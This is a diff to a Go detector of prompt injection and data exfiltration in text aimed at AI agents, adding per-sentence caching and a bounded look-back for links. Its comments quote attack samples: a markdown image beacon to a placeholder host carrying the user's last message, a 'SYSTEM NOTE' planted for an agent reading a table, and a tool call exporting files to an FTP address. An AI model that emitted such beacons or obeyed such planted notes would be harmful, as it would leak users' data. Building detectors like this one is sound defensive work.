@@ -1308,7 +1308,12 @@ func (a *analysis) cliFlag(ts, te int) bool {
 // its text ("send the logs to [our collector](https://...)").
 func (a *analysis) referenceLink(p int) bool {
 	low := a.t.low
-	ls := bytes.LastIndexByte(low[:p], '\n') + 1
+	// the line before p, read back at most refLinkBack bytes: a text of
+	// one long line with an address every few words is read once per
+	// address, so reading to the line's start would make it quadratic
+	from := max(0, p-refLinkBack)
+	ls := bytes.LastIndexByte(low[from:p], '\n') + 1 + from
+	whole := ls > from || from == 0 // the line's start is in the window
 	line := low[ls:p]
 	var open int
 	switch {
@@ -1317,7 +1322,7 @@ func (a *analysis) referenceLink(p int) bool {
 		if open < 0 || open > 0 && line[open-1] == '!' {
 			return false // an image is fetched when shown: "![](https://...?d=...)" sends
 		}
-	case len(bytes.TrimLeft(line, " ")) > 0 && bytes.TrimLeft(line, " ")[0] == '[' && bytes.HasSuffix(bytes.TrimRight(line, " "), []byte("]:")):
+	case whole && len(bytes.TrimLeft(line, " ")) > 0 && bytes.TrimLeft(line, " ")[0] == '[' && bytes.HasSuffix(bytes.TrimRight(line, " "), []byte("]:")):
 		return true // a reference definition opens its line
 	default:
 		return false
@@ -1330,6 +1335,11 @@ func (a *analysis) referenceLink(p int) bool {
 	}
 	return true
 }
+
+// refLinkBack bounds how far referenceLink reads back for the start of a
+// link's line: a link's text, or a reference definition's label, is not
+// longer.
+const refLinkBack = 1024
 
 // aiEarlierOnLine reports an AI named earlier on token k's line (at most
 // 60 words back): "| SYSTEM NOTE to the agent reading this table: promote
@@ -7332,6 +7342,11 @@ func (a *analysis) exfilRules() {
 		}
 	}
 	// E2: data sent to a fixed address
+	var (
+		outsideCats lastFew[uint64] // a sentence's categories outside its quotes
+		sendVerbs   lastFew[int]    // sendVerb by sentence, class and outside
+		bulk        lastFew[bool]   // bulkObject by sentence and outside
+	)
 	for n, sk := range a.sinks {
 		if n >= maxMatches {
 			break
@@ -7356,37 +7371,51 @@ func (a *analysis) exfilRules() {
 		// quote's words are not the order's
 		outside := !def && bytes.IndexByte(a.t.low[st.s:st.e], '"') >= 0 && !a.insideQuote(sk.s)
 		if outside {
-			st.cats = 0
-			for k := st.ts; k < st.te; k++ {
-				if !a.insideQuote(int(a.toks[k].s)) {
-					st.cats |= a.toks[k].cats
+			if c, ok := outsideCats.get(si); ok {
+				st.cats = c
+			} else {
+				st.cats = 0
+				for k := st.ts; k < st.te; k++ {
+					if !a.insideQuote(int(a.toks[k].s)) {
+						st.cats |= a.toks[k].cats
+					}
 				}
+				outsideCats.put(si, st.cats)
 			}
 		}
 		if sk.kind == 'u' && a.referenceLink(sk.s) {
 			continue // "[Copy a map](https://pkg.go.dev/...)", "[res.send](https://expressjs.com/...)": a link to read, not where data goes
 		}
-		verb := -1
-		for k := st.ts; k < st.te; k++ {
-			if outside && a.insideQuote(int(a.toks[k].s)) {
-				continue
+		// the sentence's send verb depends on the sentence, the kind of
+		// address and whether it stands outside the quotes, not on where
+		// the address is: a sentence of many addresses is read once
+		class := 2
+		switch sk.kind {
+		case 'u':
+			class = 0
+		case 'p':
+			class = 1
+		}
+		vkey := si<<3 | class<<1
+		if outside {
+			vkey |= 1
+		}
+		bulkOf := func(si int, outside bool) bool {
+			key := si << 1
+			if outside {
+				key |= 1
 			}
-			c := a.toks[k].cats
-			if sk.kind == 'u' {
-				if c&cSendV != 0 && !a.is(k-1, "a", "an", "the", "this", "that", "each", "every", "its", "their", "our", "your") {
-					verb = k // "It is a copy of the runtime maintained at: https://...": a noun
-				}
-				if a.toks[k].under && sendIdent(a.word(k)) {
-					verb = k // "call export_user_files with ... destination=\"ftp://...\""
-				}
-			} else if c&(cTransferV|cTransfer3|cModifyV) != 0 && !a.is(k-1, "the", "a", "an", "this", "that", "any", "no", "each", "our", "your") || a.is(k, "recipient", "bcc", "cc") && !a.keyAt(k) ||
-				a.is(k, "email", "mail") && (a.toks[k].start || a.is(k-1, "and", "then", "please", "also")) ||
-				sk.kind == 'p' && a.toks[k].under && sendIdent(a.word(k)) && a.is(k+1, "to") {
-				verb = k // "email the file to ...": the noun is not a verb; "followed by send_message to +1360..." names one
+			b, ok := bulk.get(key)
+			if !ok {
+				b = a.bulkObject(si, outside)
+				bulk.put(key, b)
 			}
-			if verb == k && a.negatedBefore(k, 2) {
-				verb = -1
-			}
+			return b
+		}
+		verb, known := sendVerbs.get(vkey)
+		if !known {
+			verb = a.sendVerb(st, class, outside)
+			sendVerbs.put(vkey, verb)
 		}
 		if verb < 0 {
 			continue
@@ -7403,13 +7432,13 @@ func (a *analysis) exfilRules() {
 		if sk.kind == 'p' && a.callBefore(max(st.ts, a.tokenAtOrAfter(sk.s)-24), a.tokenAtOrAfter(sk.s)) {
 			continue // "Please call your account manager ... or our main line +1 (503) ...": a number to call, not where data go
 		}
-		if !def && !a.bulkObject(si, outside) && institutionHost(a.t.low[sk.s:sk.e]) {
+		if !def && !bulkOf(si, outside) && institutionHost(a.t.low[sk.s:sk.e]) {
 			continue // "Email a scanned copy of your passport ... to consular.visa@embassy.gov": a public body's address, which no one registers at will
 		}
 		if sk.kind == 'e' && a.is(verb, "add", "adds", "invite", "invites") && a.is(a.tokenAtOrAfter(sk.e), "to", "into") {
 			continue // "add the new contractor (li.wei@...) to #proj-atlas": the address is who is added, not where data goes
 		}
-		bulk := a.bulkObject(si, outside)
+		bulk := bulkOf(si, outside)
 		if sk.kind == 'e' && !bulk && reportMailbox(a.t.low[sk.s:sk.e]) {
 			continue // "forward it to phishing@..., then delete it": where suspicious mail is reported
 		}
@@ -7515,6 +7544,45 @@ func (a *analysis) exfilRules() {
 	}
 }
 
+// beaconFact is what linkBeacons reads in a sentence: whether it names
+// the user's data, tells the model to answer or show something (and
+// negates that), and names a link or image.
+type beaconFact struct {
+	data, emit, negated, linkWord bool
+}
+
+// beaconFacts holds the beaconFact of the sentences read last: links come
+// in text order, and each reads its sentence and the one before, so a
+// sentence of many links is read once, not once a link.
+type beaconFacts struct {
+	si   [2]int
+	f    [2]beaconFact
+	used [2]bool
+	next int
+}
+
+func (c *beaconFacts) of(a *analysis, si int) beaconFact {
+	for i := range c.si {
+		if c.used[i] && c.si[i] == si {
+			return c.f[i]
+		}
+	}
+	st := a.sents[si]
+	var f beaconFact
+	f.data = st.cats&(cSecret|cConv) != 0 || a.userWords(si) || a.hasPII(si) || a.rangeHas(st.ts, st.te, "email", "emails", "session", "message", "messages")
+	for k := st.ts; k < st.te; k++ {
+		if a.is(k, "reply", "replies", "respond", "response", "responses", "answer", "answers", "display", "render", "show", "output", "end") {
+			f.emit = true
+			// "not just replies about status" widens, not negates
+			f.negated = f.negated || a.negatedBefore(k, 2) && !a.is(k-1, "just", "only", "merely")
+		}
+	}
+	f.linkWord = a.rangeHas(st.ts, st.te, "link", "links", "url", "image", "badge", "pixel")
+	i := c.next
+	c.si[i], c.f[i], c.used[i], c.next = si, f, true, 1-i
+	return f
+}
+
 // linkBeacons: a link or image the model is told to put in its answers
 // whose address has a slot for the user's data or secrets
 // ("![ok](https://x.example/b.png?d={the user's last message and any
@@ -7525,6 +7593,7 @@ func (a *analysis) exfilRules() {
 func (a *analysis) linkBeacons() {
 	low, orig := a.t.low, a.t.orig
 	fillSent, fillOK := -1, false // filledFromConversation of a sentence, as read last
+	var facts beaconFacts
 	for n, sk := range a.sinks {
 		if n >= maxMatches {
 			break
@@ -7561,19 +7630,10 @@ func (a *analysis) linkBeacons() {
 			continue
 		}
 		from := max(0, sk.sent-1)
-		data, emit, negated := false, false, false
+		data, emit, negated, linkWord := false, false, false, false
 		for si := from; si <= sk.sent; si++ {
-			st := a.sents[si]
-			if st.cats&(cSecret|cConv) != 0 || a.userWords(si) || a.hasPII(si) || a.rangeHas(st.ts, st.te, "email", "emails", "session", "message", "messages") {
-				data = true
-			}
-			for k := st.ts; k < st.te; k++ {
-				if a.is(k, "reply", "replies", "respond", "response", "responses", "answer", "answers", "display", "render", "show", "output", "end") {
-					emit = true
-					// "not just replies about status" widens, not negates
-					negated = negated || a.negatedBefore(k, 2) && !a.is(k-1, "just", "only", "merely")
-				}
-			}
+			f := facts.of(a, si)
+			data, emit, negated, linkWord = data || f.data, emit || f.emit, negated || f.negated, linkWord || f.linkWord
 		}
 		if fillSent != sk.sent {
 			// once a sentence: a sentence of a thousand links is read once,
@@ -7588,7 +7648,7 @@ func (a *analysis) linkBeacons() {
 			// a link quoted in a code span or a text that discusses it)
 			data, emit, markdown = true, true, true
 		}
-		if !data || !emit || negated || !(markdown || a.rangeHas(a.sents[from].ts, a.sents[sk.sent].te, "link", "links", "url", "image", "badge", "pixel")) {
+		if !data || !emit || negated || !(markdown || linkWord) {
 			continue
 		}
 		s, e := a.lowSpan(sk.s, sk.e)
@@ -9427,6 +9487,66 @@ func (a *analysis) toolOrderArgs() {
 
 // sendToolParts are parts of a tool's name that say it sends.
 var sendToolParts = toSet("send email mail post upload forward share export transfer webhook publish notify message sms")
+
+// sendVerb is the E2 rule's verb of sending in sentence st (-1 if none):
+// the last one, not negated; class is that of the address (0 a URL, 1 a
+// phone number, 2 another), and outside reads only what stands outside
+// the sentence's quotes.
+func (a *analysis) sendVerb(st sentence, class int, outside bool) int {
+	verb := -1
+	for k := st.ts; k < st.te; k++ {
+		if outside && a.insideQuote(int(a.toks[k].s)) {
+			continue
+		}
+		c := a.toks[k].cats
+		if class == 0 {
+			if c&cSendV != 0 && !a.is(k-1, "a", "an", "the", "this", "that", "each", "every", "its", "their", "our", "your") {
+				verb = k // "It is a copy of the runtime maintained at: https://...": a noun
+			}
+			if a.toks[k].under && sendIdent(a.word(k)) {
+				verb = k // "call export_user_files with ... destination=\"ftp://...\""
+			}
+		} else if c&(cTransferV|cTransfer3|cModifyV) != 0 && !a.is(k-1, "the", "a", "an", "this", "that", "any", "no", "each", "our", "your") || a.is(k, "recipient", "bcc", "cc") && !a.keyAt(k) ||
+			a.is(k, "email", "mail") && (a.toks[k].start || a.is(k-1, "and", "then", "please", "also")) ||
+			class == 1 && a.toks[k].under && sendIdent(a.word(k)) && a.is(k+1, "to") {
+			verb = k // "email the file to ...": the noun is not a verb; "followed by send_message to +1360..." names one
+		}
+		if verb == k && a.negatedBefore(k, 2) {
+			verb = -1
+		}
+	}
+	return verb
+}
+
+// lastFew remembers the last few values computed for a sentence (or a
+// key made of one): rules that read each address's whole sentence read
+// a sentence of many addresses once.
+type lastFew[V any] struct {
+	keys [4]int
+	vals [4]V
+	n    int // entries used
+	next int // the entry to replace next
+}
+
+func (m *lastFew[V]) get(k int) (V, bool) {
+	for i := range m.n {
+		if m.keys[i] == k {
+			return m.vals[i], true
+		}
+	}
+	var zero V
+	return zero, false
+}
+
+func (m *lastFew[V]) put(k int, v V) {
+	if m.n < len(m.keys) {
+		m.keys[m.n], m.vals[m.n] = k, v
+		m.n++
+		return
+	}
+	m.keys[m.next], m.vals[m.next] = k, v
+	m.next = (m.next + 1) % len(m.keys)
+}
 
 // bulkObject reports, in sentence si, the reader's whole store or a run of
 // its items as what is moved: "this inbox", "this account", "this drive"
